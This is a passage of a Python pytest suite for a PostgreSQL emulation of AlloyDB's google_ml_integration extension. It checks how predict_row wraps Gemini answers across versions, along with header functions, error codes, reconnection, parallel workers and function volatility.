    request = calls.requests[-1]
    assert request["body"] == {"contents": [{"role": "user",
                                             "parts": [{"text": "generate a SQL query"}]}]}
    assert request["url"] == "publishers/google/models/gemini-1.5-pro:streamGenerateContent"


def test_predict_row_wraps_a_generate_content_answer_in_an_array_as_alloydb(
        conn: psycopg.Connection[Any], calls: FakeEngine) -> None:
    # The documented statement, as printed on the register-model pages (the seed page too).
    text = conn.execute("""
        SELECT json_array_elements(google_ml.predict_row(
            model_id => 'gemini-1.5-pro:generateContent',
            request_body => '{"contents": [{"role": "user", "parts": [{"text": "q"}]}]}'))
            -> 'candidates' -> 0 -> 'content' -> 'parts' -> 0 -> 'text'""").fetchall()
    assert text == [("SELECT 1",)]
    (raw,) = conn.execute("SELECT google_ml.predict_row('gemini-1.5-pro:generateContent', "
                          "'{}')::text").fetchone()
    assert json.loads(raw) == [{"candidates": [{"content": {"parts": [{"text": "SELECT 1"}]}}]}]
    # Also where the proxy never sees the text: a view and a function.
    conn.execute("""CREATE VIEW gemini_answer AS SELECT google_ml.predict_row(
                        'gemini-1.5-pro:generateContent', '{}') -> 0 -> 'candidates' AS c""")
    conn.execute("""CREATE FUNCTION gemini_answer_fn() RETURNS json LANGUAGE sql AS
                    $$ SELECT ai.predict_row('gemini-1.5-pro:generateContent', '{}') $$""")
    assert conn.execute("SELECT json_typeof(c) FROM gemini_answer").fetchone() == ("array",)
    assert conn.execute("SELECT json_typeof(gemini_answer_fn())").fetchone() == ("array",)
    conn.execute("DROP VIEW gemini_answer")
    conn.execute("DROP FUNCTION gemini_answer_fn()")


def test_predict_row_answers_the_object_in_1_3_and_the_array_from_1_4_2(
        conn: psycopg.Connection[Any], engine: FakeEngine) -> None:
    """Google's GenWealth sample (generative-ai, gemini/sample-apps/genwealth) installs
    ``VERSION '1.3'``, registers its Gemini model by a ``:generateContent`` URL and reads
    ``google_ml.predict_row(...) -> 'candidates' -> 0 -> 'content' -> 'parts' -> 0 ->> 'text'``
    (database-files/llm.sql, June 2024 and March 2025): in 1.3 the answer is Vertex AI's object.
    From 1.4.2, whose pre-registered gemini-1.5-pro:generateContent the register page unpacks
    with json_array_elements(...), it is wrapped in an array (as a 1.5.9 instance answered)."""
    conn.execute("DROP EXTENSION google_ml_integration")
    conn.execute("CREATE EXTENSION IF NOT EXISTS google_ml_integration VERSION '1.3' CASCADE")
    engine.requests.clear()
    engine.handler = default_handler
    register_engine(conn, engine)
    conn.execute("""CALL
google_ml.create_model (
	model_id => 'gemini',
	model_request_url => 'https://us-central1-aiplatform.googleapis.com/v1/projects/p/locations/us-central1/publishers/google/models/gemini-2.0-flash-001:generateContent',
	model_provider => 'google',
	model_auth_type => 'alloydb_service_agent_iam'
)""")
    genwealth = """SELECT google_ml.predict_row('gemini', json_build_object(
        'contents', json_build_array(json_build_object('role', 'user',
            'parts', json_build_array(json_build_object('text', 'List 3 words')))),
        'generationConfig', json_build_object('temperature', 0.2, 'topP', 0.8, 'topK', 40,
            'maxOutputTokens', 2048))) -> 'candidates' -> 0 -> 'content' -> 'parts' -> 0 ->> 'text'"""
    assert conn.execute(genwealth).fetchone() == ("SELECT 1",)
    assert conn.execute("SELECT json_typeof(google_ml.predict_row('gemini', '{}'))"
                        ).fetchone() == ("object",)
    conn.execute("ALTER EXTENSION google_ml_integration UPDATE TO '1.4.2'")
    assert conn.execute("SELECT json_typeof(google_ml.predict_row('gemini', '{}'))"
                        ).fetchone() == ("array",)
    assert conn.execute(genwealth).fetchone() == (None,)
    # The register page's statement for the model 1.4.2 pre-registers.
    assert conn.execute("""SELECT json_array_elements(google_ml.predict_row(
            model_id => 'gemini-1.5-pro:generateContent',
            request_body => '{"contents": [{"role": "user", "parts": [{"text": "q"}]}]}'))
            -> 'candidates' -> 0 -> 'content' -> 'parts' -> 0 -> 'text'""").fetchall() == [
        ("SELECT 1",)]


def test_predict_row_leaves_other_answers_as_they_come(conn: psycopg.Connection[Any],
                                                       calls: FakeEngine) -> None:
    conn.execute("""CALL google_ml.create_model(model_id => 'echo', model_provider => 'custom',
                    model_request_url => 'https://example.test/predict')""")
    (raw,) = conn.execute("SELECT google_ml.predict_row('echo', '{\"a\": 1}')::text").fetchone()
    assert json.loads(raw) == {"echo": {"a": 1}}
    (chunks,) = conn.execute("SELECT json_array_length(google_ml.predict_row("
                             "'gemini-1.5-pro:streamGenerateContent', '{}'))").fetchone()
    assert chunks == 2  # an array of chunks, not wrapped again
    (plain,) = conn.execute("SELECT json_typeof(ml_predict_row("
                            "'publishers/google/models/gemini-1.5-pro:generateContent', '{}'))"
                            ).fetchone()
    assert plain == "object"  # ml_predict_row answers what Vertex AI answers


def test_ml_predict_row_takes_an_endpoint_path(conn: psycopg.Connection[Any],
                                               calls: FakeEngine) -> None:
    rows = conn.execute("""
        SELECT json_array_elements(ml_predict_row(
            'projects/p/locations/us-central1/publishers/google/models/gemini-1.5-pro:streamGenerateContent',
            '{"contents":[{"role":"user","parts":[{"text":"hi"}]}]}'))""").fetchall()
    assert len(rows) == 2
    assert calls.requests[-1]["qualified_name"] == "gemini-1.5-pro"
    assert calls.requests[-1]["auth"] == {"type": "alloydb_service_agent_iam"}


def test_ml_predict_row_takes_a_full_endpoint_path_longer_than_100_characters(
        conn: psycopg.Connection[Any], calls: FakeEngine) -> None:
    endpoint = ("projects/my-long-project-name-1234/locations/europe-west4/publishers/google/"
                "models/gemini-1.5-pro:streamGenerateContent")
    assert len(endpoint) > 100
    rows = conn.execute(
        "SELECT json_array_elements(ml_predict_row(%s, "
        "'{\"contents\":[{\"role\":\"user\",\"parts\":[{\"text\":\"hi\"}]}]}'))",
        (endpoint,)).fetchall()
    assert len(rows) == 2  # :streamGenerateContent answers a JSON array of chunks
    request = calls.requests[-1]
    # The path, not the pre-registered model of the same name and verb, says where it goes.
    assert request["url"] == endpoint
    assert request["qualified_name"] == "gemini-1.5-pro"
    assert request["auth"] == {"type": "alloydb_service_agent_iam"}


def test_anthropic_predict_row_gets_version_header(conn: psycopg.Connection[Any],
                                                   calls: FakeEngine) -> None:
    conn.execute(SEED_SECRET)
    conn.execute(SEED_MODELS[5].replace("REQUEST_URL", "https://api.anthropic.com/v1/messages"))
    conn.execute("SELECT ai.predict_row('MODEL_ID', '{\"messages\":[]}')")
    request = calls.requests[-1]
    assert request["provider"] == "anthropic"
    assert request["headers"] == {"anthropic-version": "2023-06-01"}
    assert request["auth"]["type"] == "secret_manager"


def test_llm_header_function_takes_four_arguments(conn: psycopg.Connection[Any],
                                                  calls: FakeEngine) -> None:
    conn.execute("""
        CREATE FUNCTION llm_headers(model_id VARCHAR(100), prompt TEXT, generation_config JSON,
                                    system_instructions TEXT) RETURNS JSON LANGUAGE sql AS $$
            SELECT json_build_object('x-model', model_id, 'x-prompt', prompt,
                                     'x-config', coalesce(generation_config::text, ''),
                                     'x-system', coalesce(system_instructions, ''))
        $$""")
    conn.execute("""CALL google_ml.create_model(model_id => 'hdr-llm', model_provider => 'google',
                    model_type => 'llm', model_qualified_name => 'gemini-2.5-flash-lite',
                    generate_headers_fn => 'llm_headers')""")
    conn.execute("SET google_ml_integration.enable_ai_query_engine = on")
    conn.execute("SELECT ai.if('Is it raining?', 'hdr-llm')")
    headers = calls.requests[-1]["headers"]
    assert headers["x-model"] == "hdr-llm" and headers["x-prompt"] == "Is it raining?"
    assert json.loads(headers["x-config"])["responseMimeType"] == "text/x.enum"
    # The model the AI functions use when model_id is NULL comes from default_llm_model.
    conn.execute("SET google_ml_integration.default_llm_model = 'hdr-llm'")
    conn.execute("SELECT ai.generate('Say hello')")
    assert calls.requests[-1]["model_id"] == "hdr-llm"
    assert calls.requests[-1]["headers"]["x-prompt"] == "Say hello"
    # A header function with a third argument that is not JSON is refused at registration.
    conn.execute("""CREATE FUNCTION bad_headers(model_id text, prompt text, n int)
                    RETURNS json LANGUAGE sql AS $$ SELECT '{}'::json $$""")
    assert sqlstate_of(conn, """CALL google_ml.create_model(model_id => 'bad-llm',
        model_provider => 'google', model_type => 'llm',
        model_qualified_name => 'gemini-2.5-flash-lite',
        generate_headers_fn => 'bad_headers')""") == "42P13"


def test_engine_errors_keep_their_sqlstate(conn: psycopg.Connection[Any],
                                           calls: FakeEngine) -> None:
    def fail(request: dict[str, Any]) -> Any:
        raise EngineError("38000", 'model "text-embedding-005": HTTP 500')
    calls.handler = fail
    error = error_of(conn, "SELECT google_ml.embedding('text-embedding-005', 'x')")
    assert error.sqlstate == "38000"
    calls.handler = default_handler
    assert conn.execute("SELECT google_ml.embedding('text-embedding-005', 'x')").fetchone()


def test_lost_engine_connection_is_reopened(conn: psycopg.Connection[Any],
                                            calls: FakeEngine) -> None:
    notices: list[str] = []
    conn.add_notice_handler(lambda d: notices.append(d.message_primary or ""))
    conn.execute("SELECT google_ml.embedding('text-embedding-005', 'x')")
    calls.drop_connections()
    assert conn.execute("SELECT google_ml.embedding('text-embedding-005', 'y')").fetchone()
    assert calls.requests[-1]["body"] == {"instances": [{"content": "y"}]}
    calls.drop_connections()
    time.sleep(0.2)  # the backend's socket has seen the close before the next call
    assert conn.execute("SELECT google_ml.embedding('text-embedding-005', 'z')").fetchone()
    assert calls.requests[-1]["body"] == {"instances": [{"content": "z"}]}
    assert notices == []  # nothing about the lost connection reaches the client


def test_model_created_in_an_open_transaction_is_callable(conn: psycopg.Connection[Any],
                                                          calls: FakeEngine) -> None:
    with conn.transaction(force_rollback=True):
        conn.execute("CALL google_ml.create_model(model_id => 'tx-model', "
                     "model_provider => 'google', model_type => 'text_embedding', "
                     "model_qualified_name => 'text-embedding-005')")
        assert conn.execute("SELECT google_ml.embedding('tx-model', 'x')").fetchone()


def test_calls_work_in_parallel_workers(conn: psycopg.Connection[Any],
                                        calls: FakeEngine) -> None:
    conn.execute("CREATE TABLE IF NOT EXISTS parallel_texts (t text)")
    conn.execute("TRUNCATE parallel_texts")
    conn.execute("INSERT INTO parallel_texts VALUES ('p')")
    setting = "debug_parallel_query" if conn.info.server_version >= 160000 else "force_parallel_mode"
    conn.execute(f"SET {setting} = on")
    query = "SELECT google_ml.embedding('text-embedding-005', t) FROM parallel_texts"
    plan = "\n".join(r[0] for r in conn.execute("EXPLAIN " + query))
    assert "Gather" in plan
    calls.caller_pids.clear()
    assert conn.execute(query).fetchone()
    leader = conn.execute("SELECT pg_backend_pid()").fetchone()[0]
    assert calls.caller_pids == [leader]


def test_call_functions_are_parallel_safe_and_embedding_is_immutable(
        conn: psycopg.Connection[Any]) -> None:
    rows = conn.execute("""
        SELECT p.oid::regprocedure::text, p.provolatile, p.proparallel, p.prosecdef
          FROM pg_proc p
         WHERE p.oid IN ('google_ml.embedding(text,text)'::regprocedure,
                         'ai.embedding(text,text)'::regprocedure,
                         'public.embedding(text,text)'::regprocedure,
                         'google_ml.predict_row(text,json)'::regprocedure,
                         'ai.predict_row(text,json)'::regprocedure,
                         'public.ml_predict_row(text,json)'::regprocedure)""").fetchall()
    assert len(rows) == 6
    # embedding() is IMMUTABLE so generated columns can use it (as on AlloyDB).
    assert {(r[1], r[2], r[3]) for r in rows if "embedding" in r[0]} == {("i", "s", False)}
    assert {(r[1], r[2], r[3]) for r in rows if "embedding" not in r[0]} == {("v", "s", False)}
